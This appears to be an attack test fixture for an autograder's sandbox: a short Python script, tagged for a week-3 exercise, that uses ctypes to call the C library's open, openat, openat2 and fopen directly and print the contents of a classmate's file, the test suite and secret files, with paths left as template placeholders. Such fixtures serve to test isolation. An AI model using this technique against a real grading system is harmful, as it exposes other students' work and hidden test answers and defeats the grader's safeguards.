"""Reads a classmate's file, the suite and secrets with the C library's own functions."""
# attack: week=03 exercise=pyramid
import ctypes

libc = ctypes.CDLL(None)
libc.fopen.restype = ctypes.c_void_p
buffer = ctypes.create_string_buffer(10_000)
for path in (b"@CLASSMATE@", b"@SUITE@", b"@SECRET@", b"@TMP_SECRET@"):
    for descriptor in (libc.open(path, 0), libc.syscall(@SYS:openat@, -100, path, 0), libc.syscall(@SYS:open@, path, 0)):
        print(descriptor, libc.read(descriptor, buffer, 10_000), buffer.value)
    file = libc.fopen(path, b"r")
    if file:
        print(libc.fgets(buffer, 10_000, ctypes.c_void_p(file)), buffer.value)
    how = (ctypes.c_uint64 * 3)()
    print(libc.syscall(@SYS:openat2@, -100, path, how, 24))
